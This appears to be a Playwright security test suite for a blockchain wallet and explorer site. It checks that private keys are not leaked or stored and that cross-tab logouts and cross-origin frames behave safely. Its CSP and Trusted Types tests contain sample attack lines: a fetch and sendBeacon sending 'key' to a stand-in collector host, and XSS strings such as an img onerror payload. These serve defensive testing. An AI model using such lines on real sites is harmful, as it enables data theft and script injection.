import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { PrivateKey } from '@wharfkit/session';
import { devnetPrivateKey } from '#devnet/engine/keys.ts';
import { ask, expect, siteOf, test } from '../e2e/fixtures.ts';
import { addAccount, fillDevelopmentKey, logIn, logInByCommandLine } from '../e2e/log-in.ts';
import { scenarioOf } from './scenario.ts';
import { scenarios } from './scenarios/keys.ts';

const scenario = scenarioOf(scenarios);

const secret = PrivateKey.from(String(devnetPrivateKey('heidi')));
const publicKey = String(secret.toPublic());
const wif = secret.toWif();

/** Every request after the page itself: its address and its headers. */
function requestsOf(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (request) => {
    const { referer = '' } = request.headers();
    seen.push(request.isNavigationRequest() ? referer : `${request.url()} ${referer}`);
  });
  return seen;
}

/** What of the browser's storage and address holds a text. */
const kept = (page: Page) =>
  page.evaluate(() =>
    JSON.stringify([
      { ...localStorage },
      { ...sessionStorage },
      history.state as unknown,
      location.href,
      document.title,
    ]),
  );

const exposed = (page: Page) =>
  page.getByRole('alert').filter({ hasText: /Treat it as exposed|노출된 것으로/ });

scenario('key-in-key-address', async ({ page }) => {
  const seen = requestsOf(page);
  await page.goto(`/key/${String(secret)}`);
  await expect(page).toHaveURL(`${siteOf('eos')}/key/${publicKey}`);
  await expect(exposed(page)).toBeVisible();
  await expect(page.getByRole('main').getByRole('link', { name: 'heidi' }).first()).toBeVisible();
  const digits = String(secret).slice(7, 40);
  expect(seen.filter((text) => text.includes(digits))).toEqual([]);
  expect(await kept(page)).not.toContain(digits);
});

scenario('key-in-search-address', async ({ page }) => {
  const seen = requestsOf(page);
  await page.goto(`/kr/search/${wif}`);
  await expect(page).toHaveURL(`${siteOf('eos')}/kr/key/${publicKey}`);
  await expect(exposed(page)).toBeVisible();
  expect(seen.filter((text) => text.includes(wif.slice(1, 40)))).toEqual([]);
  expect(await kept(page)).not.toContain(wif.slice(1, 40));
});

scenario('key-mistyped-in-address', async ({ page }) => {
  const wrong = `${wif.slice(0, -1)}${wif.endsWith('2') ? '3' : '2'}`;
  await page.goto(`/key/${wrong}`);
  await expect(page.getByText('This is not a valid private key.')).toBeVisible();
  await expect(exposed(page)).toBeVisible();
  expect(await kept(page)).not.toContain(wrong.slice(1, 40));
});

scenario('key-in-query', async ({ page }) => {
  await page.goto(`/wallet/transfer?to=bob&memo=${wif}`);
  await logIn(page, 'frank');
  await expect(page.getByLabel('Memo')).toHaveValue('');
  expect(await kept(page)).not.toContain(wif.slice(1, 40));
});

scenario('key-hidden-in-memo', async ({ page }) => {
  const bodies: string[] = [];
  page.on('request', (request) => bodies.push(request.postData() ?? ''));
  await page.goto('/wallet/transfer');
  await logIn(page, 'frank');
  await page.getByLabel('To', { exact: true }).fill('bob');
  await page.getByLabel('Amount').fill('0.0001');
  const memo = page.getByLabel('Memo');
  const unseen = [`id_${wif}`, `${wif.slice(0, 20)}\u200b${wif.slice(20)}`, `a${wif}\u00adb`];
  for (const text of unseen) {
    await memo.fill(text);
    await expect(memo).toHaveValue('');
  }
  await memo.fill('rent');
  await expect(page.getByRole('complementary').getByText('rent').first()).toBeVisible();
  const inHex = Buffer.from(wif.slice(25, 45)).toString('hex');
  expect(bodies.filter((text) => text.includes(inHex) || text.includes(wif.slice(25)))).toEqual([]);
  expect(await kept(page)).not.toContain(wif.slice(25));
});

scenario('key-of-another-account', async ({ page }) => {
  const bobs = String(devnetPrivateKey('bob'));
  await page.goto('/wallet/transfer');
  const dialog = await fillDevelopmentKey(page, 'alice', bobs);
  await dialog.getByRole('button', { name: 'Log in' }).click();
  await expect(dialog).toContainText('This key is not part of alice@active.');
  await page.keyboard.press('Escape');
  await expect(page.locator('header').getByRole('button', { name: 'Log in' })).toBeVisible();
  expect(await kept(page)).not.toContain(bobs.slice(7, 40));
});

scenario('log-out-in-another-tab', async ({ page, context }) => {
  const seen: string[] = [];
  context.on('request', (request) => seen.push(request.url()));
  await page.goto('/wallet/transfer?to=bob&amount=0.0001');
  await logIn(page, 'frank');
  await expect(page.getByLabel('From', { exact: true })).toHaveValue('frank');
  const other = await context.newPage();
  await other.goto(`${siteOf('eos')}/wallets`);
  await other.locator('header summary[aria-label="Account frank"]').click();
  await other.getByRole('button', { name: 'Log out' }).click();
  await expect(other.locator('header').getByRole('button', { name: 'Log in' })).toBeVisible();
  await expect(page.getByRole('main').getByRole('button', { name: 'Log in' })).toBeVisible();
  await expect(page.getByLabel('From', { exact: true })).toHaveCount(0);
  expect(seen.filter((url) => /send_transaction|push_transaction/.test(url))).toEqual([]);
});

scenario('log-out-during-review', async ({ page, context }) => {
  const sent: string[] = [];
  context.on('request', (request) => sent.push(request.url()));
  const review = page.getByRole('dialog', { name: 'Review transaction' });
  const closed = page.getByRole('alert').filter({ hasText: 'You logged out or switched accounts' });
  await page.goto('/wallet/transfer');
  await logIn(page, 'grace');
  await addAccount(page, 'grace', 'frank');
  const other = await context.newPage();
  await other.goto(`${siteOf('eos')}/wallets`);
  const openReview = async () => {
    await page.getByLabel('To', { exact: true }).fill('bob');
    await page.getByLabel('Amount').fill('0.0001');
    await page.getByRole('main').getByRole('button', { name: 'Send', exact: true }).click();
    await expect(review.getByRole('button', { name: 'Sign', exact: true })).toBeEnabled();
  };
  await openReview();
  await other.locator('header summary[aria-label="Account frank"]').click();
  await other.getByRole('button', { name: /grace/ }).first().click();
  await expect(review).toHaveCount(0);
  await expect(closed).toBeVisible();
  await openReview();
  // The menu is still open.
  await other.getByRole('button', { name: 'Log out' }).click();
  await expect(review).toHaveCount(0);
  expect(sent.filter((url) => /send_transaction|push_transaction/.test(url))).toEqual([]);
});

scenario('other-chains-wallets', async ({ page }) => {
  await page.goto(`${siteOf('eos')}/wallet/transfer`);
  await logInByCommandLine(page, 'frank');
  // An older build may have left more in the frame than the list.
  const frame = page.frames().find((one) => one.url().startsWith(siteOf('connect')));
  await expect
    .poll(() => frame!.evaluate(() => localStorage.getItem('pronghorn-users')))
    .toContain('frank');
  await frame!.evaluate(() => {
    const users = JSON.parse(localStorage.getItem('pronghorn-users')!) as { saved: object[] };
    const [first] = users.saved;
    users.saved = [
      { ...first, data: { channel: 'a secret of Anchor' } },
      { ...first, actor: 'heidi', wallet: 'key', data: { privateKey: 'a private key' } },
    ];
    localStorage.setItem('pronghorn-users', JSON.stringify(users));
  });
  await page.goto(`${siteOf('jungle')}/wallets`);
  const heard = await page.evaluate(async (origin) => {
    const opened = document.createElement('iframe');
    opened.src = origin;
    const answer = new Promise<string>((resolve) => {
      addEventListener('message', ({ origin: from, data }) => {
        if (from !== origin) return;
        const { kind, text } = data as { kind: string; text?: string };
        const request = { pronghorn: 'storage', version: 1, kind: 'read', key: 'users', id: 1 };
        if (kind === 'ready') opened.contentWindow?.postMessage(request, origin);
        if (kind === 'answer') resolve(text ?? '');
      });
    });
    document.body.append(opened);
    return answer;
  }, siteOf('connect'));
  expect(heard).toContain('frank');
  expect(heard).not.toContain('secret');
  expect(heard).not.toContain('heidi');
});

test.describe(() => {
  test.use({ allowedConsole: /connect-src|Refused to connect|violates|CSP:|Fetch API/ });
  scenario('script-sends-elsewhere', async ({ page }) => {
    await page.goto('/wallets');
    const results = await page.evaluate(() =>
      Promise.all(
        ['https://collector.example.org/', 'https://wax.greymass.com/v1/chain/get_info'].map(
          (url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', String),
        ),
      ),
    );
    expect(results.filter((one) => one === 'sent')).toEqual([]);
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener('securitypolicyviolation', (event) =>
            resolve(`${event.effectiveDirective} ${event.blockedURI}`),
          );
          navigator.sendBeacon('https://collector.example.org/', 'key');
        }),
    );
    expect(blocked).toBe('connect-src https://collector.example.org/');
  });
});

test.describe(() => {
  test.use({ allowedConsole: /Trusted|trusted|violates|CSP:|Refused/ });
  scenario('text-becomes-html', async ({ page }) => {
    await page.goto('/wallets');
    const results = await page.evaluate(() => {
      const tried = (work: () => void) => {
        try {
          work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      return [
        tried(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
        tried(() => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=x></iframe>')),
        tried(() => (document.createElement('script').src = 'https://collector.example.org/a.js')),
        tried(() => (document.createElement('script').text = 'window.taken = true')),
      ];
    });
    expect(results).toEqual(Array(4).fill('TypeError'));
  });
});

scenario('window-keeps-handle', async ({ page, context }) => {
  const stranger = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end('<title>Stranger</title>');
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  await page.goto(`http://localhost:${(stranger.address() as AddressInfo).port}/`);
  const opening = context.waitForEvent('page');
  await page.evaluate(
    (url) => {
      (window as { opened?: Window | null }).opened = open(url);
    },
    `${siteOf('eos')}/wallets`,
  );
  const opened = await opening;
  await expect(opened.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await opened.evaluate(() => window.opener === null)).toBe(true);
  expect(await page.evaluate(() => (window as { opened?: Window | null }).opened?.closed)).toBe(
    true,
  );
  await new Promise((resolve) => stranger.close(resolve));
});

scenario('public-chain-as-own-node', async ({ page }) => {
  const wax = '1064487b3cd1a897ce03ae5b6a865651747e2e152090f99c1d19d44e01aea5a4';
  const info = await ask<object>('/v1/chain/get_info', {});
  await page.route('http://127.0.0.1:25998/**', (route) =>
    route.fulfill({
      headers: { 'access-control-allow-origin': '*' },
      json: { ...info, chain_id: wax },
    }),
  );
  await page.goto(siteOf('local'));
  await page.getByLabel('Node URL').fill('127.0.0.1:25998');
  await page.getByRole('button', { name: 'Start Explorer' }).click();
  await expect(page.getByRole('alert')).toContainText(
    'Cannot connect to URL, is nodeos running? This node belongs to WAX, which has its own site.',
  );
  expect(await page.evaluate(() => localStorage.getItem('pronghorn-local-0.0.7'))).toBeNull();
});
